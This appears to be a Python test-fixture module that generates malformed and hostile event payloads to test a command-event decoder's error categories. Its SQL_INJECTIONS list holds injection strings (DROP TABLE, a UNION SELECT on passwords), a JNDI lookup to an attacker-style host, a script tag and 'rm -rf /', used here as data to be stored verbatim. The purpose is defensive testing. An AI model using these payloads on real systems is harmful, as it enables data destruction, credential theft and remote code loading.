"""Hostile input: raw payloads a producer might send, each with how decoding must react.

Categories match :func:`streamtune.schemas.decode.decode_event`'s failure
categories (``json``, ``validation``, ``unknown_kind``, ``version``,
``size``) plus ``valid``: well-formed command events whose text looks like
SQL injection, which must be accepted and stored verbatim.

Examples
--------
>>> from datetime import UTC, datetime
>>> payloads = hostile_payloads(1, 12, start=datetime(2026, 1, 1, tzinfo=UTC))
>>> sorted({category for _, category in payloads[:6]})
['json', 'size', 'unknown_kind', 'valid', 'validation', 'version']
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

from streamtune.schemas.bounds import MAX_EVENT_BYTES
from streamtune.schemas.commands import COMMANDS, render, sample_parameters

HOSTILE_CATEGORIES = ("json", "validation", "unknown_kind", "version", "size", "valid")
"""Expected outcome of each hostile payload."""

_WEIGHTS = (2, 4, 1, 1, 1, 2)
SQL_INJECTIONS = (
    "'; DROP TABLE commands; --",
    "restart pump-3'; DROP TABLE commands; --",
    "1' OR '1'='1",
    "Robert'); DROP TABLE events;--",
    'query_status"; DELETE FROM errors WHERE 1=1; --',
    "' UNION SELECT name, password FROM system.users --",
    "status; SELECT sleep(10)",
    "\\'; INSERT INTO commands VALUES (1); --",
    "restart pump-3 /* comment */ OR 1=1",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "<script>alert('x')</script> restart pump-3",
    "stop pump-1`; rm -rf / #",
)
"""Command texts that look like injection attacks but are valid input."""

Payload = dict[str, Any]


def _encode(payload: Any) -> bytes:
    return json.dumps(payload, ensure_ascii=False).encode("utf-8")


def _nested(depth: int) -> dict[str, Any]:
    value: dict[str, Any] = {"leaf": 1}
    for _ in range(depth):
        value = {"a": value}
    return value


def _mutate(**changes: Any) -> Callable[[Payload], Any]:
    def apply(base: Payload) -> Payload:
        return {**base, **changes}
    return apply


def _drop(key: str) -> Callable[[Payload], Payload]:
    return lambda base: {k: v for k, v in base.items() if k != key}


_VALIDATION: tuple[Callable[[Payload], Any], ...] = (
    _drop("raw_input"),
    _drop("success"),
    _mutate(success="maybe"),
    _mutate(execution_time=-1.5),
    _mutate(execution_time="fast"),
    _mutate(execution_time=1e9),
    _mutate(raw_input="x" * 2500),
    _mutate(raw_input=""),
    _mutate(parameters=_nested(8)),
    _mutate(parameters={f"p{i}": i for i in range(100)}),
    _mutate(parameters={"note": "y" * 1500}),
    _mutate(parameters=["not", "an", "object"]),
    _mutate(event_time="2026-03-01T12:00:00"),
    _mutate(event_time="1999-12-31T23:59:59Z"),
    _mutate(event_time="yesterday"),
    _mutate(userName="bob"),
    _mutate(command_type="Restart Device"),
    _mutate(event_id="not-a-uuid"),
    _mutate(session_id="   "),
    _mutate(kind="metric"),
    lambda base: [base],
    lambda base: None,
    lambda base: "restart pump-3",
)
_UNKNOWN_KIND: tuple[Callable[[Payload], Any], ...] = (
    _mutate(kind="telemetry"),
    _mutate(kind="COMMAND"),
    _mutate(kind="command "),
    _mutate(kind=None),
    _mutate(kind=7),
    _drop("kind"),
)
_VERSION: tuple[Callable[[Payload], Any], ...] = (
    _mutate(schema_version=3),
    _mutate(schema_version=0),
    _mutate(schema_version=99),
    _mutate(schema_version="2"),
    _mutate(schema_version=True),
    _mutate(schema_version=-1),
    _mutate(schema_version=2.5),
    _mutate(schema_version=None),
)


def _json(base: Payload, rng: random.Random) -> bytes:
    text = _encode(base)
    variant = rng.randrange(9)
    if variant == 0:
        return text[: rng.randint(1, len(text) - 2)]
    if variant == 1:
        return text[:-1] + b",}"
    if variant == 2:
        return repr(base).encode("utf-8")
    if variant == 3:
        return b"\xff\xfe" + text
    if variant == 4:
        return text.replace(b', "kind"', b' "kind"', 1)
    if variant == 5:
        return b""
    if variant == 6:
        return b"kind=command&raw_input=restart+pump-3"
    if variant == 7:
        return text + b"\n" + text
    return b"{" * rng.randint(1, 50)


def _size(base: Payload, rng: random.Random) -> bytes:
    excess = MAX_EVENT_BYTES + rng.randint(1, 4096)
    variant = rng.randrange(3)
    if variant == 0:
        return _encode({**base, "raw_input": "A" * excess})
    if variant == 1:
        return _encode({**base, "parameters": {f"k{i}": "v" * 900 for i in range(80)}})
    return b"[" * excess


def _valid(base: Payload, rng: random.Random) -> bytes:
    text = rng.choice(SQL_INJECTIONS)
    payload = {**base, "raw_input": text, "normalized_input": text}
    if rng.random() < 0.5:
        payload["parameters"] = {"device": text, "note": "'; DROP TABLE errors; --"}
    if rng.random() < 0.3:
        payload["session_id"] = "s'; DROP TABLE sessions; --"
    return _encode(payload)


def _base(rng: random.Random, when: datetime) -> Payload:
    spec = COMMANDS[rng.choice(sorted(COMMANDS))]
    index = rng.randrange(len(spec.phrasings))
    params = sample_parameters(spec, index, rng)
    return {
        "event_id": str(UUID(int=rng.getrandbits(128), version=4)),
        "kind": "command",
        "schema_version": 2,
        "event_time": when.isoformat().replace("+00:00", "Z"),
        "source": "console",
        "session_id": f"s-{rng.getrandbits(48):012x}",
        "raw_input": render(spec, params, index),
        "command_type": spec.name,
        "parameters": params,
        "success": True,
        "execution_time": round(rng.uniform(0.05, 5.0), 3),
    }


def _make(category: str, base: Payload, rng: random.Random) -> bytes:
    if category == "json":
        return _json(base, rng)
    if category == "size":
        return _size(base, rng)
    if category == "valid":
        return _valid(base, rng)
    table = {"validation": _VALIDATION, "unknown_kind": _UNKNOWN_KIND, "version": _VERSION}
    return _encode(rng.choice(table[category])(base))


def hostile_payloads(
    seed: int, n: int, *, start: datetime | None = None
) -> list[tuple[bytes, str]]:
    """``n`` raw payloads with their expected category (see :data:`HOSTILE_CATEGORIES`).

    The first six cover every category once (in seeded order); the rest are
    drawn with weights favouring validation failures. ``start`` (default: now,
    whole seconds) dates the payloads; same ``seed`` and ``start``, same bytes.
    """
    rng = random.Random(seed)  # noqa: S311 - test data, not cryptography
    if start is None:
        start = datetime.now(UTC).replace(microsecond=0)
    first = list(HOSTILE_CATEGORIES)
    rng.shuffle(first)
    out = []
    for i in range(n):
        category = first[i] if i < len(first) else rng.choices(HOSTILE_CATEGORIES, _WEIGHTS)[0]
        base = _base(rng, start + timedelta(seconds=i))
        out.append((_make(category, base, rng), category))
    return out
